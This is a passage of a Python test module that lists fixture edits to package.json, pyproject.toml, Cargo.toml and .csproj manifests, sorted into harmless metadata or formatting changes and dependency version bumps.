        ('"license": "MIT"', '"license": "(MIT OR Apache-2.0)"'),
        ('"B. Helper"', '"C. Helper"'),
        ('"email": "b@example.org"}', '"email": "b@example.org"}, "D <d@example.org>"'),
        ('"individual"', '"company"'),
        ('  "name"', '    "name"'),
        ('  "main": "index.js",\n', '\n  "main"  :  "index.js"  ,\n'),
        ('"test": "node --test"', '"test": "n\\u006fde --test"'),
    ),
    Case("sub/package.json", "layout", PACKAGE.encode(), json.dumps(json.loads(PACKAGE)).encode()),
    Case("package.json", "line ends", PACKAGE.encode(), PACKAGE.replace("\n", "\r\n").encode()),
    *edits(
        "pyproject.toml",
        PYPROJECT,
        ('version = "1.2.0"', 'version = "1.3.0rc1"'),
        ('"A shop"', "'A shop for you'"),
        ('description = "A shop"\n', ""),
        ('"shop", "cart"]', '"shop"]'),
        ('"README.md"', '"README.rst"'),
        (
            'authors = [{ name = "A. Writer", email = "a@example.org" }]',
            'authors = [{ name = "B" }]',
        ),
        ('Homepage = "https://example.org/shop"', 'Documentation = "https://example.org/docs"'),
        ('license = "MIT"', 'license = "Apache-2.0"'),
        ("# the client", "# the client, which we like"),
        ('addopts = "-q"', "addopts = '-q'  # quietly"),
        ('requires = ["hatchling>=1.27"]', 'requires = [\n  "hatchling>=1.27",\n]'),
        ("[project]\n", "# What it is\n[project]\n"),
    ),
    *edits(
        "crates/Cargo.toml",
        CARGO,
        ('version = "1.2.0"', 'version = "1.3.0"'),
        ('keywords = ["shop"]', 'keywords = ["shop", "cart"]\ncategories = ["web"]'),
        ("lto = true", "lto = true  # smaller"),
        ('license = "MIT"', 'license = "Unlicense/MIT"'),
    ),
    *edits(
        "Cargo.toml",
        CARGO.replace('version = "1.2.0"', 'version = "1.2.0"  #:version'),
        ('version = "1.2.0"', 'version = "1.2.1"'),
    ),
    *edits(
        "Shop.csproj",
        PROJECT,
        ("<Version>1.2.0", "<Version>1.3.0"),
        ("A shop", "A shop &amp; more"),
        ("    <Authors>A. Writer</Authors>\n", ""),
        ("</Authors>", "</Authors>\n    <PackageTags>shop;cart</PackageTags>"),
        ("<!-- what it needs -->", "<!-- what it needs, and no more -->"),
        ("  <!-- what it needs -->\n", "\n"),
        ('<Exec Command="echo built" />', '<Exec Command="echo built"></Exec>'),
    ),
    Case(
        "A.fsproj",
        "a mark of byte order that stays",
        b"\xef\xbb\xbf" + PROJECT.encode(),
        b"\xef\xbb\xbf" + PROJECT.replace("A shop", "B").encode(),
    ),
)
"""What steers nothing."""

BUMPS = (
    *edits(
        "package.json",
        PACKAGE,
        ('"left-pad": "^1.3.0"', '"left-pad": "^1.4.0"'),
        ('"typescript": "~5.4.0"', '"typescript": "5.5.0-beta"'),
    ),
    *edits(
        "pyproject.toml",
        PYPROJECT,
        ('"httpx>=0.27"', '"httpx>=0.28,<1"'),
        ('"attrs==23.1.0"', '"attrs==24.2.0"'),
    ),
    *edits(
        "Cargo.toml",
        CARGO,
        ('"1.0.200"', '"1.0.201"'),
        ('version = "1.37"', 'version = "1.38"'),
    ),
    *edits("Shop.csproj", PROJECT, ('Version="3.1.1"', 'Version="4.0.0"')),
    Case("requirements/dev.txt", "a version", b"# x\nhttpx==0.27\n", b"# x\nhttpx==0.28\n"),
)
"""Other versions of what is there already."""
